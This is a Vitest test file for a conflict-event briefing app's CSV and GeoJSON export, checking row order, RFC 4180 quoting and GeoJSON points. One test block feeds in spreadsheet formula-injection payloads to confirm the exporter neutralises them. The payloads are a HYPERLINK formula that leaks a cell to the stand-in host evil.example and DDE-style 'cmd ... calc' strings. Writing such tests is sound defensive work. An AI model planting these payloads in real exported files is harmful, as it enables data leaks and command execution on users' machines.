import { describe, expect, it } from 'vitest';
import { csvParse } from 'd3';
import { buildBriefingExport } from '../../../src/model/exports/briefing-json.ts';
import { EVENT_COLUMNS, eventRows, eventsCsv, eventsGeojson, formatCsv } from '../../../src/model/exports/events.ts';
import { briefingSchema } from '../../../src/schemas/briefing.ts';
import { actorSchema } from '../../../src/schemas/actor.ts';
import { awkward, awkwardInput, bravo, lookups, site } from '../../helpers/sample-exports.ts';

const exported = () => [buildBriefingExport(bravo(), lookups(), site), buildBriefingExport(awkward(), lookups(), site)];

describe('event rows', () => {
  it('are oldest first across briefings, with ACLED labels and fatalities as low/high', () => {
    const rows = eventRows(exported());
    expect(rows.map((r) => r.event_id)).toEqual([
      'bravo-event-2', 'awkward-event-2', 'awkward-event-4', 'bravo-event-1', 'awkward-event-1', 'awkward-event-3',
    ]);
    const bamako = rows.find((r) => r.event_id === 'bravo-event-1')!;
    expect(bamako).toMatchObject({
      event_date: '2024-01-15', date_precision: 'day', year: 2024, event_type: 'Battles', actor1: 'Red Group', actor2: null,
      iso: 'ML', country: 'Mali', location: 'Bamako', latitude: 12.64, longitude: -8, fatalities: 10, fatalities_high: 12,
      notes: 'Attack on Bamako', source: 'Example Wire', source_url: 'https://example.org/a',
      briefing: 'Bravo briefing: the full house structure', event_url: 'https://briefings.example.org/briefings/bravo/#event-1',
    });
    expect(rows.find((r) => r.event_id === 'bravo-event-2')).toMatchObject({ event_date: '2023-06-01', date_precision: 'month', fatalities: 3, fatalities_high: 3, actor1: null });
    expect(rows.find((r) => r.event_id === 'awkward-event-2')).toMatchObject({ fatalities: null, fatalities_high: null, latitude: null, iso: null, event_type: 'Strategic developments' });
    expect(rows.find((r) => r.event_id === 'awkward-event-1')).toMatchObject({
      actor1: 'Black Flag, "the Movement"', actor2: 'Night Militia', actors: 'Black Flag, "the Movement"; Night Militia; Blue Army',
      fatalities: 0, source: 'Wire, Inc.; Monitor',
    });
    expect(rows.find((r) => r.event_id === 'awkward-event-3')).toMatchObject({ reported_date: '2024-02-22', event_type: 'Protests' });
  });
});

describe('the events CSV', () => {
  it('parses with a real CSV parser into the expected header and values', () => {
    const text = eventsCsv(eventRows(exported()));
    const parsed = csvParse(text);
    expect(parsed.columns).toEqual([...EVENT_COLUMNS]);
    expect(parsed.columns.slice(0, 2)).toEqual(['event_id', 'event_date']);
    for (const column of ['event_date', 'event_type', 'actor1', 'country', 'location', 'latitude', 'longitude', 'fatalities', 'source']) {
      expect(parsed.columns).toContain(column);
    }
    expect(parsed).toHaveLength(6);
    const clash = parsed.find((r) => r.event_id === 'awkward-event-1')!;
    expect(clash.notes).toBe('Clash at "Point, 7"\nsecond line');
    expect(clash.location).toBe('Point 7, north');
    expect(clash.fatalities).toBe('0');
    expect(clash.latitude).toBe('17.5');
    expect(clash.longitude).toBe('8.25');
    expect(clash.source_url).toBe('https://example.org/s1?a=1&b=2; https://example.org/s2');
    const drift = parsed.find((r) => r.event_id === 'awkward-event-2')!;
    expect([drift.fatalities, drift.fatalities_high, drift.latitude]).toEqual(['', '', '']);
  });

  it('is RFC 4180: CRLF line ends, quoted fields with doubled quotes, no BOM', () => {
    expect(formatCsv([['a', 'b'], ['x, y', 'say "hi"'], [null, 3]])).toBe('a,b\r\n"x, y","say ""hi"""\r\n,3\r\n');
    expect(eventsCsv([]).charCodeAt(0)).toBe('e'.charCodeAt(0));
    expect(eventsCsv([])).toBe(`${EVENT_COLUMNS.join(',')}\r\n`);
  });
});

describe('the events CSV opened in a spreadsheet', () => {
  const LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
  /** `awkward` with a formula, or something a spreadsheet reads as one, in every text column an author fills. */
  function hostile() {
    const input = awkwardInput();
    input.title = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    input.historicalContext![0] = { ...input.historicalContext![0]!, title: LEAK, place: { name: '+1+cmd|\' /C calc\'!A0', country: 'NE', lat: 17.5, lon: -8.07 } };
    input.historicalContext![2] = { ...input.historicalContext![2]!, title: '\t=1+2', place: { name: '\r=3+4', country: 'NE' } };
    input.sources = input.sources.map((s, i) => ({ ...s, publisher: ['-2+3', '=cmd'][i]! }));
    const lookup = lookups();
    lookup.actors = new Map([...lookup.actors, ['black-flag', { data: actorSchema.parse({ name: '=1+1', kind: 'militia' }) }]]);
    return eventsCsv(eventRows([buildBriefingExport({ id: 'awkward', data: briefingSchema.parse(input) }, lookup, site)]));
  }

  it('neutralises text cells that start with = + - @ tab or CR with a leading quote', () => {
    const rows = csvParse(hostile());
    const clash = rows.find((r) => r.event_id === 'awkward-event-1')!;
    expect(clash.notes).toBe(`'${LEAK}`);
    expect(clash.location).toBe("'+1+cmd|' /C calc'!A0");
    expect(clash.actor1).toBe("'=1+1");
    expect(clash.actors).toBe("'=1+1; Night Militia; Blue Army");
    expect(clash.source).toBe("'-2+3; =cmd");
    expect(clash.briefing).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    const protest = rows.find((r) => r.event_id === 'awkward-event-3')!;
    expect(protest.notes).toBe("'\t=1+2");
    expect(protest.location).toBe("'\r=3+4");
    // Nothing a spreadsheet would evaluate is left in any cell but plain numbers.
    const cells = rows.flatMap((row) => EVENT_COLUMNS.map((column) => row[column]!)).filter((cell) => !/^-?\d+(?:\.\d+)?$/.test(cell));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('keeps numbers, negative ones included, as numbers', () => {
    const clash = csvParse(hostile()).find((r) => r.event_id === 'awkward-event-1')!;
    expect([clash.latitude, clash.longitude, clash.fatalities, clash.year]).toEqual(['17.5', '-8.07', '0', '2024']);
    expect(Number(clash.longitude)).toBe(-8.07);
    expect(hostile()).toContain(',17.5,-8.07,0,0,');
  });

  it('quotes every neutralised cell and leaves ordinary text as it was', () => {
    expect(formatCsv([['=1+1', '-8.07', -8.07, 'a-b', 'x = y', "it's"]])).toBe(`"'=1+1","'-8.07",-8.07,a-b,x = y,it's\r\n`);
    expect(eventsCsv(eventRows(exported()))).not.toContain("'");
  });
});

describe('the events GeoJSON', () => {
  it('is a FeatureCollection of [lon, lat] Points for the events with coordinates', () => {
    const geojson = eventsGeojson(eventRows(exported()));
    expect(geojson.type).toBe('FeatureCollection');
    expect(geojson.features.map((f) => f.id)).toEqual(['bravo-event-2', 'awkward-event-4', 'bravo-event-1', 'awkward-event-1']);
    const bamako = geojson.features.find((f) => f.id === 'bravo-event-1')!;
    expect(bamako.geometry).toEqual({ type: 'Point', coordinates: [-8, 12.64] });
    expect(bamako.properties).not.toHaveProperty('latitude');
    expect(bamako.properties).toMatchObject({ location: 'Bamako', fatalities: 10, fatalities_high: 12, event_type: 'Battles' });
  });

  it('is an empty collection when nothing is mapped', () => {
    expect(eventsGeojson([])).toEqual({ type: 'FeatureCollection', features: [] });
  });
});
